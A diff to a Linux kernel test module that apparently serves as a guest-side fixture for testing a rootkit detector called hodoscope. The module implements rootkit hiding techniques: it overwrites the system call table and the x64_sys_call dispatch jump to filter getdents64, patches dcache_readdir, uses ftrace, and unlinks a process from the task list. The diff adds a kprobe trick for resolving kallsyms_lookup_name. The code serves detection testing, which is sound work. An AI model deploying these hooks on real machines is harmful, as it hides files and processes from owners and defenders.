@@ -5,16 +5,15 @@
 //
 // insmod guest_hooks.ko variant=NAME, until rmmod, and with
 //   pointer   simple_dir_operations.iterate_shared leads here
-//   dispatch  so do sys_call_table[getdents64], which is table=ADDRESS, and the jump to
-//             getdents64=ADDRESS in x64_sys_call, which is dispatch=ADDRESS (by which kernels since
-//             6.9, and their stable branches, call system calls)
+//   dispatch  so do sys_call_table[getdents64], and the jump to __x64_sys_getdents64 in x64_sys_call
+//             (by which kernels since 6.9, and their stable branches, call system calls)
 //   start     dcache_readdir begins with a jump to here
 //   ftrace    a callback of ftrace makes dcache_readdir go on here
 //   process   pid=N is taken out of the task list, and out of /proc, for good
 //   honest    nothing is hooked: a file in /proc that this module makes and reads itself
 #include <linux/fs.h>
 #include <linux/ftrace.h>
-#include <linux/kallsyms.h>
+#include <linux/kprobes.h>
 #include <linux/module.h>
 #include <linux/proc_fs.h>
 #include <linux/sched/signal.h>
@@ -25,12 +24,8 @@ MODULE_LICENSE("Dual MIT/GPL");
 MODULE_DESCRIPTION("Hooks for the guest of hodoscope's tests; of no use anywhere else");
 
 static char* variant = "";
-static unsigned long table, dispatch, getdents64;
 static int pid;
 module_param(variant, charp, 0);
-module_param(table, ulong, 0);
-module_param(dispatch, ulong, 0);
-module_param(getdents64, ulong, 0);
 module_param(pid, int, 0);
 
 #define CALL_SIZE 5 // of a call, jump or nop with a 32-bit displacement
@@ -95,6 +90,16 @@ static void overwrite_jump(unsigned long at, unsigned long target) {
 
 // --- the variants ---
 
+static unsigned long address_of(const char* symbol) {
+  // Disabled, so that it only looks its address up.
+  struct kprobe probe = {.symbol_name = "kallsyms_lookup_name", .flags = KPROBE_FLAG_DISABLED};
+  unsigned long (*look_up)(const char*);
+  if (register_kprobe(&probe) != 0) return 0;
+  look_up = (void*)probe.addr;
+  unregister_kprobe(&probe);
+  return look_up(symbol);
+}
+
 static int hook_pointer(void) {
   iterate_function hook = filtered_iterate;
   original = simple_dir_operations.iterate_shared;
@@ -111,9 +116,10 @@ struct entry {
   char name[];
 };
 
+static long (*getdents64)(const struct pt_regs*);
+
 static noinline long filtered_getdents64(const struct pt_regs* registers) {
-  long (*call)(const struct pt_regs*) = (void*)getdents64;
-  long size = call(registers), kept = 0, at;
+  long size = getdents64(registers), kept = 0, at;
   char* bytes;
   if (size <= 0) return size;
   bytes = memdup_user((void __user*)registers->si, size);
@@ -133,10 +139,12 @@ static noinline long filtered_getdents64(const struct pt_regs* registers) {
 
 static int hook_dispatch(void) {
   unsigned long hook = (unsigned long)filtered_getdents64, at;
-  if (!table || !dispatch || !getdents64) return -EINVAL;
+  unsigned long table = address_of("sys_call_table"), dispatch = address_of("x64_sys_call");
+  getdents64 = (void*)address_of("__x64_sys_getdents64");
+  if (!table || !dispatch || !getdents64) return -ENOENT;
   overwrite((void*)(table + __NR_getdents64 * sizeof(hook)), &hook, sizeof(hook));
   for (at = dispatch; at < dispatch + 0x2000; at++) {
-    if (*(u8*)at != 0xe9 || at + CALL_SIZE + *(s32*)(at + 1) != getdents64) continue;
+    if (*(u8*)at != 0xe9 || at + CALL_SIZE + *(s32*)(at + 1) != (unsigned long)getdents64) continue;
     overwrite_jump(at, hook);
     return 0;
   }
